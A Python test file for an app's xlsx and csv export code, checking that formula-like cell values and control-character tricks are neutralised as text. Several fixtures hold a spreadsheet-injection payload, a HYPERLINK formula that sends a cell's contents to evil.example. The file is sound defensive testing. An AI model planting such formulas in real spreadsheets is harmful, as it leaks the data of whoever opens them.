"""app.exports: formula-safe xlsx and csv, written to disk and read back."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile

import openpyxl
import pytest

from app.exports import FORMULA_PREFIXES, neutralise, write_csv, write_xlsx
from tests.app.sheets import read

# --- writing ----------------------------------------------------------------------------------

@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_neutralise_each_formula_prefix(prefix):
    assert neutralise(f"{prefix}SUM(A1:A9)") == f"'{prefix}SUM(A1:A9)"


@pytest.mark.parametrize("value", ["Acme = Co", "a+b", "", None, 12, -3, 1.5,
                                   dt.date(2024, 1, 1), "'=already"])
def test_neutralise_leaves_other_values(value):
    assert neutralise(value) == value


def test_formula_text_round_trips_as_text_through_xlsx(tmp_path):
    evil = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'
    path = tmp_path / "export.xlsx"
    write_xlsx(path, [
        ("Suppliers", ["name", "workers", "audited_on", "note"],
         iter([[evil, 1200, dt.datetime(2024, 3, 1), "#N/A"], ["-3", -3, None, "@SUM(1)"],
               ["<b>Fish & Co</b>", 1.5, dt.date(2024, 1, 2), "bell\x07 tab\tinside"]])),
        ("Column help", ["column", "help"], [["name", "Required."]]),
    ])
    workbook = openpyxl.load_workbook(path)
    sheet = workbook["Suppliers"]
    assert [c.value for c in sheet[1]] == ["name", "workers", "audited_on", "note"]
    assert all(c.font.b for c in sheet[1]) and sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width >= len(evil)
    name, workers, audited, note = sheet[2]
    assert (name.data_type, name.value) == ("s", "'" + evil)
    assert (workers.data_type, workers.value) == ("n", 1200)
    assert audited.is_date and audited.value == dt.datetime(2024, 3, 1)
    assert (note.data_type, note.value) == ("s", "#N/A")
    assert [(c.data_type, c.value) for c in sheet[3]] == [
        ("s", "'-3"), ("n", -3), ("n", None), ("s", "'@SUM(1)")]
    assert sheet["A4"].value == "<b>Fish & Co</b>" and sheet["D4"].value == "bell tab\tinside"
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert workbook["Column help"]["B2"].value == "Required."
    workbook.close()
    _, rows = read(path, columns=("name", "workers"))
    assert rows[0] == (2, {"name": "'" + evil, "workers": 1200})


def test_formula_text_is_neutralised_in_csv():
    buffer = io.StringIO()
    write_csv(buffer, ["name", "workers"],
              [["=HYPERLINK(\"http://evil\")", 3], ["\tcmd", None], ["+1", -3], ["Acme", 1.5]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["name", "workers"], ["'=HYPERLINK(\"http://evil\")", "3"], ["'\tcmd", ""],
        ["'+1", "-3"], ["Acme", "1.5"]]


def test_write_xlsx_needs_a_sheet():
    with pytest.raises(ValueError, match="at least one sheet"):
        write_xlsx(io.BytesIO(), [])


EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'


@pytest.mark.parametrize("before", ["\x01", "\x00", "\x1f\x08", "\x7f", "\x85", "\x0b\x0c"])
def test_control_characters_cannot_uncover_a_formula_in_xlsx(tmp_path, before):
    path = tmp_path / "export.xlsx"
    write_xlsx(path, [("Suppliers", [before + "=header"], [[before + EVIL], [f"{before}+1"],
                                                             [f"{before}@SUM(A1)"]])])
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist()
                  if n.startswith("xl/worksheets/")]
    assert sheets and not any(re.search(r"<(\w+:)?f[ >]", xml) for xml in sheets)
    workbook = openpyxl.load_workbook(path)
    cells = [c for row in workbook.active.iter_rows() for c in row]
    assert [(c.data_type, c.value) for c in cells] == [
        ("s", "'=header"), ("s", "'" + EVIL), ("s", "'+1"), ("s", "'@SUM(A1)")]
    workbook.close()


def test_control_characters_cannot_uncover_a_formula_in_csv():
    buffer = io.StringIO()
    write_csv(buffer, ["\x01=name"], [["\x01" + EVIL], ["\x7f-2+3"], ["tab\tand\nnewline kept"]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["'=name"], ["'" + EVIL], ["'-2+3"], ["tab\tand\nnewline kept"]]
